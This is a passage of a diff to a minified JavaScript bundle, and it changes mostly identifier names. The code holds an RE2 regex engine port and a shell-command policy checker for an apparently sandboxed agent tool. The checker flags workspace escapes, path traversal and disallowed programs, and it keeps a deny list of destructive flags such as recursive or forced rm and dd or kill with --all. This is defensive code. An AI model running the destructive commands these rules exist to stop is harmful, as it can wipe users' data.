 Op.EMPTY_MATCH)}parseInternal(){if((this.flags&F.LITERAL)!==0)return fe.literalRegexp(this.wholeRegexp,this.flags);let e=-1,
-n=-1,s=-1;const r=new UN(this.wholeRegexp);for(;r.more();){let i=-1;e:switch(r.peek()){case L.CODES["("]:if((this.flags&
+n=-1,s=-1;const r=new RR(this.wholeRegexp);for(;r.more();){let i=-1;e:switch(r.peek()){case L.CODES["("]:if((this.flags&
 F.LOOKBEHIND)!==0){if(r.lookingAt("(?<=")){this.parsePosLookBehind(),r.skip(4);break}if(r.lookingAt("(?<!")){this.parseNegLookBehind(),
 r.skip(4);break}}if((this.flags&F.PERL_X)!==0&&r.lookingAt("(?")){this.parsePerlFlags(r);break}this.op(x.Op.LEFT_PAREN).
 cap=++this.numCap,r.skip(1);break;case L.CODES["|"]:this.parseVerticalBar(),r.skip(1);break;case L.CODES[")"]:this.parseRightParen(),
@@ -6822,9 +6813,9 @@ const e=this.pop(),n=this.pop();if(n.op!==x.Op.LEFT_PAREN)throw new Ve(fe.ERR_UN
 flags=n.flags,n.lb!==0){if(fe.hasCapture(e))throw new Ve(fe.ERR_INVALID_CAPTURE_IN_LOOKBEHIND,this.wholeRegexp);n.lb>0?n.
 op=x.Op.PLB:n.op=x.Op.NLB,n.subs=[e],this.push(n);return}n.cap===0?this.push(e):(n.op=x.Op.CAPTURE,n.subs=[e],this.push(
 n))}parsePerlClassEscape(e,n){const s=e.pos();if((this.flags&F.PERL_X)===0||!e.more()||e.pop()!==L.CODES["\\"]||!e.more())
-return!1;e.pop();const r=e.from(s),i=_g.has(r)?_g.get(r):null;return i===null?!1:(n.appendGroup(i,(this.flags&F.FOLD_CASE)!==
+return!1;e.pop();const r=e.from(s),i=wg.has(r)?wg.get(r):null;return i===null?!1:(n.appendGroup(i,(this.flags&F.FOLD_CASE)!==
 0),!0)}parseNamedClass(e,n){const s=e.rest(),r=s.indexOf(":]");if(r<0)return!1;const i=s.substring(0,r+2);e.skipString(i);
-const o=Lg.has(i)?Lg.get(i):null;if(o===null)throw new Ve(fe.ERR_INVALID_CHAR_RANGE,i);return n.appendGroup(o,(this.flags&
+const o=Rg.has(i)?Rg.get(i):null;if(o===null)throw new Ve(fe.ERR_INVALID_CHAR_RANGE,i);return n.appendGroup(o,(this.flags&
 F.FOLD_CASE)!==0),!0}parseUnicodeClass(e,n){const s=e.pos();if((this.flags&F.UNICODE_GROUPS)===0||!e.lookingAt("\\p")&&!e.
 lookingAt("\\P"))return!1;e.skip(1);let r=1,i=e.pop();if(i===L.CODES.P&&(r=-1),!e.more())throw e.rewindTo(s),new Ve(fe.ERR_INVALID_CHAR_RANGE,
 e.rest());i=e.pop();let o;if(i!==L.CODES["{"])o=V.runeToString(i);else{const u=e.rest(),d=u.indexOf("}");if(d<0)throw e.
@@ -6841,28 +6832,28 @@ pos();if(e.lookingAt("[:")){if(this.parseNamedClass(e,r))continue;e.rewindTo(a)}
 e,r))continue;e.rewindTo(a);const c=fe.parseClassChar(e,n);let l=c;if(e.more()&&e.lookingAt("-")){if(e.skip(1),e.more()&&
 e.lookingAt("]"))e.skip(-1);else if(l=fe.parseClassChar(e,n),l<c)throw new Ve(fe.ERR_INVALID_CHAR_RANGE,e.from(a))}(this.
 flags&F.FOLD_CASE)===0?r.appendRange(c,l):r.appendFoldedRange(c,l)}e.skip(1),r.cleanClass(),i<0&&r.negateClass(),s.runes=
-r.toArray(),this.push(s)}},JN=class Qn{static initTest(e){const n=Qn.compile(e),s=new Qn(n.expr,n.prog,n.numSubexp,n.longest);
+r.toArray(),this.push(s)}},FR=class Qn{static initTest(e){const n=Qn.compile(e),s=new Qn(n.expr,n.prog,n.numSubexp,n.longest);
 return s.cond=n.cond,s.prefix=n.prefix,s.prefixUTF8=n.prefixUTF8,s.prefixComplete=n.prefixComplete,s.prefixRune=n.prefixRune,
 s.prefilter=n.prefilter,s.namedGroups=n.namedGroups,s}static compile(e){return Qn.compileImpl(e,F.PERL,!1)}static compilePOSIX(e){
-return Qn.compileImpl(e,F.POSIX,!0)}static compileImpl(e,n,s){let r=cr.parse(e,n);const i=r.maxCap(),o=r.namedGroups;r=Cg.
-simplify(r);const a=GN.build(r),c=gg.compileRegexp(r),l=new Qn(e,c,i,s);l.prefilter=a.type===Ee.Type.NONE?null:a;const[u,
+return Qn.compileImpl(e,F.POSIX,!0)}static compileImpl(e,n,s){let r=or.parse(e,n);const i=r.maxCap(),o=r.namedGroups;r=mg.
+simplify(r);const a=IR.build(r),c=pg.compileRegexp(r),l=new Qn(e,c,i,s);l.prefilter=a.type===Ee.Type.NONE?null:a;const[u,
 d]=c.prefix();return l.prefixComplete=u,l.prefix=d,l.prefixUTF8=V.stringToUtf8ByteArray(l.prefix),l.prefix.length>0&&(l.
 prefixRune=l.prefix.codePointAt(0)),l.namedGroups=o,l}static match(e,n){return Qn.compile(e).match(n)}constructor(e,n,s=0,r=0){
 this.expr=e,this.prog=n,this.numSubexp=s,this.longest=r,this.cond=n.startCond(),this.prefix=null,this.prefixUTF8=null,this.
 prefixComplete=!1,this.prefixRune=0,this.namedGroups=Object.create(null),this.machinePool=[],this.lazyDFA=null,this.onepass=
-hg.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new Sc(this.prog)),this.lazyDFA}matchPrefixComplete(e,n,s,r){
+Bg.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new Ac(this.prog)),this.lazyDFA}matchPrefixComplete(e,n,s,r){
 if((s===F.ANCHOR_START||s===F.ANCHOR_BOTH)&&n!==0)return null;let i=-1,o=-1;const a=e.prefixLength(this);if(s===F.UNANCHORED){
 const c=e.index(this,n);if(c<0)return null;i=n+c,o=i+a}else if(s===F.ANCHOR_BOTH){if(e.endPos()!==a||e.index(this,0)!==0)
 return null;i=0,o=a}else if(s===F.ANCHOR_START){if(e.index(this,0)!==0)return null;i=0,o=a}if(i<0)return null;if(r>0){const c=new Int32Array(
-r).fill(-1);return c[0]=i,c[1]=o,Array.from(c)}return[]}createLookbehindState(){return this.prog.numLb>0?new SN(this.prog):
+r).fill(-1);return c[0]=i,c[1]=o,Array.from(c)}return[]}createLookbehindState(){return this.prog.numLb>0?new bR(this.prog):
 null}executeEngine(e,n,s,r,i=null){if(this.prefixComplete&&(r===0||this.numSubexp===0))return this.matchPrefixComplete(e,
-n,s,r);if(this.prefilter!==null&&s===F.UNANCHORED&&!this.prefilter.eval(e,n))return null;if(this.onepass!==null)return hg.
+n,s,r);if(this.prefilter!==null&&s===F.UNANCHORED&&!this.prefilter.eval(e,n))return null;if(this.onepass!==null)return Bg.
 execute(this,e,n,s,r);if(r>0)return this.prog.numLb===0&&e.endPos()<=Gi.maxBitStateLen(this.prog)?Gi.execute(this,e,n,s,
 r):this.doExecuteNFA(e,n,s,r,i);if(this.prog.numLb===0){const o=this.dfa.match(e,n,s);if(o!==null)return o?[]:null;if(e.
 endPos()<=Gi.maxBitStateLen(this.prog))return Gi.execute(this,e,n,s,r)}return this.doExecuteNFA(e,n,s,r,i)}numberOfCapturingGroups(){
 return this.numSubexp}numberOfInstructions(){return this.prog.numInst()}get(){return this.machinePool.length>0?this.machinePool.
 pop():null}reset(){this.machinePool.length=0}put(e){this.machinePool.push(e)}toString(){return this.expr}doExecuteNFA(e,n,s,r,i=null){
-let o=this.get();o||(o=lg.fromRE2(this)),o.init(r);const a=o.match(e,n,s,i)?o.submatches():null;return this.put(o),a}match(e){
+let o=this.get();o||(o=cg.fromRE2(this)),o.init(r);const a=o.match(e,n,s,i)?o.submatches():null;return this.put(o),a}match(e){
 return this.executeEngine(Ze.fromUTF16(e),0,F.UNANCHORED,0)!==null}matchWithGroup(e,n,s,r,i,o=null){return e instanceof Wn||
 (V.isByteArray(e)?e=qn.utf8(e):e=qn.utf16(e)),this.matchMachineInput(e,n,s,r,i,o)}matchMachineInput(e,n,s,r,i,o=null){if(n>
 s)return[!1,null];const a=e.isUTF16Encoding()?Ze.fromUTF16(e.asCharSequence(),0,s):Ze.fromUTF8(e.asBytes(),0,s),c=this.executeEngine(
@@ -6893,29 +6884,29 @@ for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.slice(r[2*o],r[2*o+1]));return i})
 const s=this.allMatches(Ze.fromUTF8(e),n);return s.length===0?null:s}findAllSubmatch(e,n){const s=this.allMatches(Ze.fromUTF16(
 e),n,r=>{let i=new Array(r.length/2|0).fill(null);for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.substring(r[2*o],r[2*o+1]));
 return i});return s.length===0?null:s}findAllSubmatchIndex(e,n){const s=this.allMatches(Ze.fromUTF16(e),n);return s.length===
-0?null:s}},rU=class es{static UNANCHORED=F.UNANCHORED;static ANCHOR_START=F.ANCHOR_START;static ANCHOR_BOTH=F.ANCHOR_BOTH;constructor(e=es.
-UNANCHORED,n=0,s=8388608){if(![es.UNANCHORED,es.ANCHOR_START,es.ANCHOR_BOTH].includes(e))throw new rg("The anchor should\
+0?null:s}},qz=class es{static UNANCHORED=F.UNANCHORED;static ANCHOR_START=F.ANCHOR_START;static ANCHOR_BOTH=F.ANCHOR_BOTH;constructor(e=es.
+UNANCHORED,n=0,s=8388608){if(![es.UNANCHORED,es.ANCHOR_START,es.ANCHOR_BOTH].includes(e))throw new ng("The anchor should\
  be RE2Set.UNANCHORED, RE2Set.ANCHOR_START or RE2Set.ANCHOR_BOTH");V.checkFlags(n),this.anchor=e,this.jsFlags=n,this.maxMem=
 s;let r=F.PERL;(n&gt.DISABLE_UNICODE_GROUPS)!==0&&(r&=~F.UNICODE_GROUPS),(n&gt.LOOKBEHINDS)!==0&&(r|=F.LOOKBEHIND),this.
-re2Flags=r,this.regexps=[],this.prog=null,this.dfa=null,this.dummyRe2=null}add(e){if(this.prog)throw new or("Cannot add \
+re2Flags=r,this.regexps=[],this.prog=null,this.dfa=null,this.dummyRe2=null}add(e){if(this.prog)throw new rr("Cannot add \
 patterns after compile");V.checkPattern(e);let n=e;(this.jsFlags&gt.CASE_INSENSITIVE)!==0&&(n=`(?i)${n}`),(this.jsFlags&
-gt.DOTALL)!==0&&(n=`(?s)${n}`),(this.jsFlags&gt.MULTILINE)!==0&&(n=`(?m)${n}`);const s=cr.parse(n,this.re2Flags);return this.
-regexps.push(Cg.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=gg.compileSet(this.regexps);if(e.
-numInst()>cr.MAX_SIZE)throw new or(`${cr.ERR_LARGE}: the set compiles to ${e.numInst()} instructions, more than ${cr.MAX_SIZE}`);
-this.prog=e,this.dfa=new Sc(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
+gt.DOTALL)!==0&&(n=`(?s)${n}`),(this.jsFlags&gt.MULTILINE)!==0&&(n=`(?m)${n}`);const s=or.parse(n,this.re2Flags);return this.
+regexps.push(mg.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=pg.compileSet(this.regexps);if(e.
+numInst()>or.MAX_SIZE)throw new rr(`${or.ERR_LARGE}: the set compiles to ${e.numInst()} instructions, more than ${or.MAX_SIZE}`);
+this.prog=e,this.dfa=new Ac(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
 longest:!1}}match(e){this.prog||this.compile();const n=V.isByteArray(e)?Ze.fromUTF8(e):Ze.fromUTF16(e);let s=F.UNANCHORED;
 this.anchor===es.ANCHOR_START?s=F.ANCHOR_START:this.anchor===es.ANCHOR_BOTH&&(s=F.ANCHOR_BOTH);const r=this.dfa.matchSet(
-n,0,s);if(r!==null)return r;const i=lg.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(n,0,s)}},ZN=class vs{static isHexadecimal(e){
+n,0,s);if(r!==null)return r;const i=cg.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(n,0,s)}},LR=class ks{static isHexadecimal(e){
 return"0"<=e&&e<="9"||"A"<=e&&e<="F"||"a"<=e&&e<="f"}static translate(e){let n="";if(Object.prototype.toString.call(e)===
 "[object RegExp]"&&(e.ignoreCase&&(n+="i"),e.multiline&&(n+="m"),e.dotAll&&(n+="s"),e=e.source),typeof e!="string")return e;
 let s="",r=!1,i=e.length;i===0&&(s="(?:)",r=!0);let o=!1,a=0;for(;a<i;){let l=e[a];if(l==="\\"){if(a+1<i)switch(l=e[a+1],
 l){case"\\":s+="\\\\",a+=2;continue;case"c":if(a+2<i){let B=e[a+2].charCodeAt(0);if(B>=65&&B<=90||B>=97&&B<=122){let f=B%
 32;s+="\\x",s+=(f>>4).toString(16).toUpperCase(),s+=(f&15).toString(16).toUpperCase(),a+=3,r=!0;continue}}s+="c",a+=2,r=
-!0;continue;case"u":if(a+2<i){if(e[a+2]==="{"){let B=a+3,f=!1,h=!1;for(;B<i;){const m=e[B];if(m==="}"){h=!0;break}if(!vs.
-isHexadecimal(m))break;f=!0,B++}if(h&&f){s+="\\x",a+=2,r=!0;continue}}else if(a+5<i){let B=!0;for(let f=0;f<4;f++)if(!vs.
+!0;continue;case"u":if(a+2<i){if(e[a+2]==="{"){let B=a+3,f=!1,h=!1;for(;B<i;){const m=e[B];if(m==="}"){h=!0;break}if(!ks.
+isHexadecimal(m))break;f=!0,B++}if(h&&f){s+="\\x",a+=2,r=!0;continue}}else if(a+5<i){let B=!0;for(let f=0;f<4;f++)if(!ks.
 isHexadecimal(e[a+2+f])){B=!1;break}if(B){s+="\\x{"+e.substring(a+2,a+6)+"}",a+=6,r=!0;continue}}}s+="u",a+=2,r=!0;continue;case"\
-x":{let B=!1;if(a+2<i&&e[a+2]==="{"){let f=a+3,h=!1,m=!1;for(;f<i;){const g=e[f];if(g==="}"){m=!0;break}if(!vs.isHexadecimal(
-g))break;h=!0,f++}m&&h&&(B=!0)}else a+3<i&&vs.isHexadecimal(e[a+2])&&vs.isHexadecimal(e[a+3])&&(B=!0);B?(s+="\\x",a+=2):
+x":{let B=!1;if(a+2<i&&e[a+2]==="{"){let f=a+3,h=!1,m=!1;for(;f<i;){const g=e[f];if(g==="}"){m=!0;break}if(!ks.isHexadecimal(
+g))break;h=!0,f++}m&&h&&(B=!0)}else a+3<i&&ks.isHexadecimal(e[a+2])&&ks.isHexadecimal(e[a+3])&&(B=!0);B?(s+="\\x",a+=2):
 (s+="x",a+=2,r=!0);continue}case"n":case"r":case"t":case"a":case"f":case"v":case"d":case"D":case"s":case"S":case"w":case"\
 W":case"b":case"B":case"p":case"P":case"A":case"z":case"Q":case"E":case"0":case"1":case"2":case"3":case"4":case"5":case"\
 6":case"7":s+="\\"+l,a+=2;continue;default:{let B=e.codePointAt(a+1);if(B>=48&&B<=57||B>=65&&B<=90||B>=97&&B<=122){let f=V.
@@ -6923,87 +6914,87 @@ charCount(B);s+=e.substring(a+1,a+1+f),a+=f+1,r=!0}else{s+="\\";let f=V.charCoun
 "/"){s+="\\/",a+=1,r=!0;continue}else if(l==="["){if(!o&&e[a+1]==="]"){s+="[^\\x00-\\x{10FFFF}]",a+=2,r=!0;continue}if(!o&&
 e[a+1]==="^"&&e[a+2]==="]"){s+="[\\x00-\\x{10FFFF}]",a+=3,r=!0;continue}o=!0}else if(l==="]")o=!1;else if(!o&&l==="("&&a+
 2<i&&e[a+1]==="?"&&e[a+2]==="<"&&a+3<i&&!"=!>)".includes(e[a+3])){s+="(?P<",a+=3,r=!0;continue}let u=e.codePointAt(a),d=V.
-charCount(u);s+=e.substring(a,a+d),a+=d}const c=r?s:e;return n.length>0?`(?${n})${c}`:c}};const Pg=(t,e)=>{const n=t.matchArray();
+charCount(u);s+=e.substring(a,a+d),a+=d}const c=r?s:e;return n.length>0?`(?${n})${c}`:c}};const Fg=(t,e)=>{const n=t.matchArray();
 return n.index=t.start(0),n.input=e,n.groups=t.namedGroupsObject(),n};var Yn=class tn{static CASE_INSENSITIVE=gt.CASE_INSENSITIVE;static DOTALL=gt.
 DOTALL;static MULTILINE=gt.MULTILINE;static DISABLE_UNICODE_GROUPS=gt.DISABLE_UNICODE_GROUPS;static LONGEST_MATCH=gt.LONGEST_MATCH;static LOOKBEHINDS=gt.
-LOOKBEHINDS;static quote(e){return V.quoteMeta(e)}static quoteReplacement(e,n=!1){return cg.quoteReplacement(e,n)}static translateRegExp(e){
-return ZN.translate(e)}static compile(e,n=0){V.checkPattern(e),V.checkFlags(n);let s=e;(n&tn.CASE_INSENSITIVE)!==0&&(s=`\
+LOOKBEHINDS;static quote(e){return V.quoteMeta(e)}static quoteReplacement(e,n=!1){return og.quoteReplacement(e,n)}static translateRegExp(e){
+return LR.translate(e)}static compile(e,n=0){V.checkPattern(e),V.checkFlags(n);let s=e;(n&tn.CASE_INSENSITIVE)!==0&&(s=`\
 (?i)${s}`),(n&tn.DOTALL)!==0&&(s=`(?s)${s}`),(n&tn.MULTILINE)!==0&&(s=`(?m)${s}`);let r=F.PERL;(n&tn.DISABLE_UNICODE_GROUPS)!==
-0&&(r&=~F.UNICODE_GROUPS),(n&tn.LOOKBEHINDS)!==0&&(r|=F.LOOKBEHIND);const i=new tn(e,n);return i.re2Input=JN.compileImpl(
+0&&(r&=~F.UNICODE_GROUPS),(n&tn.LOOKBEHINDS)!==0&&(r|=F.LOOKBEHIND);const i=new tn(e,n);return i.re2Input=FR.compileImpl(
 s,r,(n&tn.LONGEST_MATCH)!==0),i}static matches(e,n){return tn.compile(e).testExact(n)}static initTest(e,n,s){if(e==null)
 throw new Error("pattern is null");if(s==null)throw new Error("re2 is null");const r=new tn(e,n);return r.re2Input=s,r}constructor(e,n){
 this.patternInput=e,this.flagsInput=n,this.re2Input=null}reset(){this.re2Input.reset()}flags(){return this.flagsInput}pattern(){
 return this.patternInput}re2(){return this.re2Input}matches(e){return this.testExact(e)}matcher(e){return V.isByteArray(
-e)&&(e=qn.utf8(e)),new cg(this,e)}test(e){return V.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
+e)&&(e=qn.utf8(e)),new og(this,e)}test(e){return V.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
 const n=V.isByteArray(e)?Ze.fromUTF8(e):Ze.fromUTF16(e);return this.re2Input.executeEngine(n,0,F.ANCHOR_BOTH,0)!==null}exec(e){
-const n=this.matcher(e);return n.find()?Pg(n,e):null}split(e,n=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
+const n=this.matcher(e);return n.find()?Fg(n,e):null}split(e,n=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
 if(o===0&&s.end()===0){o=s.end();continue}if(n>0&&r.length===n-1)break;if(o===s.start()){if(n===0){i+=1,o=s.end();continue}}else
 for(;i>0;)r.push(""),i-=1;r.push(s.substring(o,s.start())),o=s.end()}if(n===0&&o!==s.inputLength()){for(;i>0;)r.push(""),
 i-=1;r.push(s.substring(o,s.inputLength()))}return(n!==0||r.length===0&&!(o===s.inputLength()&&o>0))&&r.push(s.substring(
-o,s.inputLength())),r}*matchAll(e){const n=this.matcher(e);for(;n.find();)yield Pg(n,e)}toString(){return this.patternInput}programSize(){
+o,s.inputLength())),r}*matchAll(e){const n=this.matcher(e);for(;n.find();)yield Fg(n,e)}toString(){return this.patternInput}programSize(){
 return this.re2Input.numberOfInstructions()}groupCount(){return this.re2Input.numberOfCapturingGroups()}namedGroups(){return this.
 re2Input.namedGroups}equals(e){return this===e?!0:e===null||this.constructor!==e.constructor?!1:this.flagsInput===e.flagsInput&&
-this.patternInput===e.patternInput}};function iU(t,...e){if(Array.isArray(t)&&"raw"in t){const s=String.raw(t,...e);return Yn.
-compile(s)}const n=typeof t=="number"?t:0;return(s,...r)=>{const i=String.raw(s,...r);return Yn.compile(i,n)}}const jg=1e3;
-function Mg(t,{ignoreCase:e,multiline:n,dotAll:s}={}){if(t.length>jg)return{error:`is longer than ${jg} characters`};try{
+this.patternInput===e.patternInput}};function Vz(t,...e){if(Array.isArray(t)&&"raw"in t){const s=String.raw(t,...e);return Yn.
+compile(s)}const n=typeof t=="number"?t:0;return(s,...r)=>{const i=String.raw(s,...r);return Yn.compile(i,n)}}const Lg=1e3;
+function Pg(t,{ignoreCase:e,multiline:n,dotAll:s}={}){if(t.length>Lg)return{error:`is longer than ${Lg} characters`};try{
 const r=Yn.compile(t,(e?Yn.CASE_INSENSITIVE:0)|(n?Yn.MULTILINE:0)|(s?Yn.DOTALL:0));return{matches:i=>r.test(i)}}catch(r){
-return{error:r.message}}}const KN=/^\s*([A-Za-z_]\w*)\(\s*([^\n]*?)\s*\)\s*$/d,WN=/^\s*(?:'([^'"\\\n]*)'|"([^'"\\\n]*)")\s*(?:,|$)/;
-function qN(t){const e=KN.exec(t);if(e===null)return;const[,n="",s=""]=e,r=[];let i=e.indices?.[2]?.[0]??0,o=s;for(;o!==
-"";){const a=WN.exec(o);if(a===null)return;const[c,l,u]=a;r.push({text:l??u??"",span:{start:i,end:i+c.length}}),o=o.slice(
-c.length),i+=c.length}return{name:n,args:r}}const VN=(t,e,n)=>n.proposal.tool==="runpy"?rF(t,e,n):YN(t,Hm(e,t),n);function YN(t,e,n){
-const{families:s,patterns:r,disabled_packs:i}=n.policy,o=new Ec(n),a=Kt(t.command),c=g=>g.map(C=>Gg(C,s,i)),l=c(en(a)),u=g=>l.
-flatMap(C=>{const y=Wg(C);return r.filter(b=>b.layer===g&&Kg(b.regex,y)).map(({name:b,regex:D,reason:O})=>(0,Oe.gk)("cus\
-tom_pattern",{name:b,pattern:D,reason:O},{layer:g}))}),d=[()=>XN(t,a),()=>c(QN(t,n.mount,o,l)).flatMap(g=>eF(g,o)),()=>l.
-flatMap(sF)];for(const[g,C]of d.entries()){const y=[...C(),...u(g+1)];if(y.length>0)return{findings:[...zm(y,1),...e.filter(
-$c)]}}const B=l.map(({read:g})=>g.use),f=new Set(B.flatMap(Fm)),h=[...e,...[...f].map(g=>(0,Oe.gk)(g,{}))],m=Oa.options.
-findLast(g=>B.some(C=>C.risk===g));return m===void 0||m==="safe"||h.some($c)?{findings:h}:{findings:h,risk:m}}function Gg(t,e,n){
-const[s,...r]=t.words,i=xm("workspace",s?.text??"",e),o=i&&!n.includes(i.family.category)?i:void 0;return{command:t,program:o,
-read:Lm(r,o??{})}}function XN({targets:t},e){const n=t.flatMap(({script:s})=>s===void 0?[]:[s]);return[...ys(e).map(s=>Hg(
-s,!0)),...n.flatMap(s=>ys(Kt(s))).map(s=>Hg(s,!1))]}function Hg({name:t,pattern:e,words:n},s){const r=n[0]?.span.start,i=n.
-at(-1)?.span.end,o=s&&r!==void 0&&i!==void 0?{span:{start:r,end:i}}:{};return(0,Oe.gk)(t,{pattern:Ug(e)},o)}const zg=200;
-function Ug(t){return t.length>zg?`${t.slice(0,zg)}\u2026`:t}function QN({command:t},{tree:e,at:n},{cwd:s},r){return e!==
-void 0&&n!=="/"&&n===s&&r.length===1?en(Kt(t,e)):r.map(o=>o.command)}function $c({severity:t}){return t==="error"}function Jg({
-program:t,read:e}){const n=t===void 0?[]:e.values;return new Set(n.flatMap(({kind:s,word:r})=>sf.has(s)?[]:r))}const Zg=new Map;
-function Kg(t,e){const n=Zg.get(t)??Mg(t);return Zg.set(t,n),"error"in n||n.matches(e)}function oU(t,e,n){return everyCommand(
-readShellText(t)).some(s=>Kg(e,Wg(Gg(s,n,[]))))}function Wg(t){const{words:e,redirections:n}=t.command,s=Jg(t);return[...e.
-filter(r=>!s.has(r)).map(({text:r})=>r),...n.map(({operator:r,target:i})=>`${r} ${i?.text??""}`)].join(" ")}function eF(t,e){
-const{words:n,redirections:s,problems:r}=t.command,i=Jg(t),o=r.filter(({rule:c})=>c==="variable-expansion"),a=s.flatMap(
+return{error:r.message}}}const PR=/^\s*([A-Za-z_]\w*)\(\s*([^\n]*?)\s*\)\s*$/d,jR=/^\s*(?:'([^'"\\\n]*)'|"([^'"\\\n]*)")\s*(?:,|$)/;
+function MR(t){const e=PR.exec(t);if(e===null)return;const[,n="",s=""]=e,r=[];let i=e.indices?.[2]?.[0]??0,o=s;for(;o!==
+"";){const a=jR.exec(o);if(a===null)return;const[c,l,u]=a;r.push({text:l??u??"",span:{start:i,end:i+c.length}}),o=o.slice(
+c.length),i+=c.length}return{name:n,args:r}}const GR=(t,e,n)=>n.proposal.tool==="runpy"?qR(t,e,n):HR(t,Mm(e,t),n);function HR(t,e,n){
+const{families:s,patterns:r,disabled_packs:i}=n.policy,o=new _c(n),a=Kt(t.command),c=g=>g.map(C=>jg(C,s,i)),l=c(en(a)),u=g=>l.
+flatMap(C=>{const y=Zg(C);return r.filter(b=>b.layer===g&&Jg(b.regex,y)).map(({name:b,regex:D,reason:O})=>(0,Oe.gk)("cus\
+tom_pattern",{name:b,pattern:D,reason:O},{layer:g}))}),d=[()=>zR(t,a),()=>c(UR(t,n.mount,o,l)).flatMap(g=>JR(g,o)),()=>l.
+flatMap(WR)];for(const[g,C]of d.entries()){const y=[...C(),...u(g+1)];if(y.length>0)return{findings:[...Gm(y,1),...e.filter(
+Ic)]}}const B=l.map(({read:g})=>g.use),f=new Set(B.flatMap(Nm)),h=[...e,...[...f].map(g=>(0,Oe.gk)(g,{}))],m=xa.options.
+findLast(g=>B.some(C=>C.risk===g));return m===void 0||m==="safe"||h.some(Ic)?{findings:h}:{findings:h,risk:m}}function jg(t,e,n){
+const[s,...r]=t.words,i=vm("workspace",s?.text??"",e),o=i&&!n.includes(i.family.category)?i:void 0;return{command:t,program:o,
+read:Rm(r,o??{})}}function zR({targets:t},e){const n=t.flatMap(({script:s})=>s===void 0?[]:[s]);return[...Cs(e).map(s=>Mg(
+s,!0)),...n.flatMap(s=>Cs(Kt(s))).map(s=>Mg(s,!1))]}function Mg({name:t,pattern:e,words:n},s){const r=n[0]?.span.start,i=n.
+at(-1)?.span.end,o=s&&r!==void 0&&i!==void 0?{span:{start:r,end:i}}:{};return(0,Oe.gk)(t,{pattern:Hg(e)},o)}const Gg=200;
+function Hg(t){return t.length>Gg?`${t.slice(0,Gg)}\u2026`:t}function UR({command:t},{tree:e,at:n},{cwd:s},r){return e!==
+void 0&&n!=="/"&&n===s&&r.length===1?en(Kt(t,e)):r.map(o=>o.command)}function Ic({severity:t}){return t==="error"}function zg({
+program:t,read:e}){const n=t===void 0?[]:e.values;return new Set(n.flatMap(({kind:s,word:r})=>nf.has(s)?[]:r))}const Ug=new Map;
+function Jg(t,e){const n=Ug.get(t)??Pg(t);return Ug.set(t,n),"error"in n||n.matches(e)}function Yz(t,e,n){return everyCommand(
+readShellText(t)).some(s=>Jg(e,Zg(jg(s,n,[]))))}function Zg(t){const{words:e,redirections:n}=t.command,s=zg(t);return[...e.
+filter(r=>!s.has(r)).map(({text:r})=>r),...n.map(({operator:r,target:i})=>`${r} ${i?.text??""}`)].join(" ")}function JR(t,e){
+const{words:n,redirections:s,problems:r}=t.command,i=zg(t),o=r.filter(({rule:c})=>c==="variable-expansion"),a=s.flatMap(
 ({target:c})=>c??[]);return[...n.slice(1).filter(c=>!i.has(c)),...a].flatMap(({text:c,span:l})=>{const u=o.some(({span:d})=>d.
-start>=l.start&&d.end<=l.end);return[c,...tF(c)].flatMap(d=>qg(d,l,e,u))})}function tF(t){if(!t.startsWith("-"))return[];
-const{attached:e}=va(t);return[...e?[e]:[],.../^-[^-]./.test(t)?[t.slice(2)]:[]]}function qg(t,e,n,s=!1){const r=s||t.startsWith(
+start>=l.start&&d.end<=l.end);return[c,...ZR(c)].flatMap(d=>Kg(d,l,e,u))})}function ZR(t){if(!t.startsWith("-"))return[];
+const{attached:e}=va(t);return[...e?[e]:[],.../^-[^-]./.test(t)?[t.slice(2)]:[]]}function Kg(t,e,n,s=!1){const r=s||t.startsWith(
 "~")?void 0:n.locate(t);return r===void 0||!n.isIn(r,n.workspace)?[(0,Oe.gk)("path_outside_workspace",{path:t},{span:e})]:
-t.split(/[\\/]/).includes("..")?[(0,Oe.gk)("path_traversal",{path:t},{span:e})]:[]}const nF=[[/^rm$/,/^-[A-Za-z]*[rRfiI]|^--(?:recursive|interactive|all)$/],
-[/^(?:chmod|chown|dd|kill)$/,/^--all$/],[/^/,/^--force$/]];function sF({command:t,program:e,read:n}){const[s,...r]=t.words;
-if(s===void 0)return[];const{text:i}=s,o=nF.flatMap(([l,u])=>l.test(i)?[u]:[]),a=r.filter(({text:l})=>o.some(u=>u.test(l)));
+t.split(/[\\/]/).includes("..")?[(0,Oe.gk)("path_traversal",{path:t},{span:e})]:[]}const KR=[[/^rm$/,/^-[A-Za-z]*[rRfiI]|^--(?:recursive|interactive|all)$/],
+[/^(?:chmod|chown|dd|kill)$/,/^--all$/],[/^/,/^--force$/]];function WR({command:t,program:e,read:n}){const[s,...r]=t.words;
+if(s===void 0)return[];const{text:i}=s,o=KR.flatMap(([l,u])=>l.test(i)?[u]:[]),a=r.filter(({text:l})=>o.some(u=>u.test(l)));
 return a.length>0?a.map(({text:l,span:u})=>(0,Oe.gk)("blocked_flag",{program:i,flag:l},{span:u})):r.length===1&&e&&/^--(?:version|help)$/.
 test(r[0]?.text??"")?[]:(e?n.objections:[{objection:"is not allowed",word:s}]).map(({objection:l,word:u=s})=>(0,Oe.gk)("\
-command_not_allowed",{program:i,objection:l},{span:u.span}))}function rF({command:t},e,n){const s=e.filter(({rule:a})=>(0,Kn.
-Y)(a).anyText===!0),r=qN(t),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const a=Ug(r?.name??t);return{findings:[
+command_not_allowed",{program:i,objection:l},{span:u.span}))}function qR({command:t},e,n){const s=e.filter(({rule:a})=>(0,Kn.
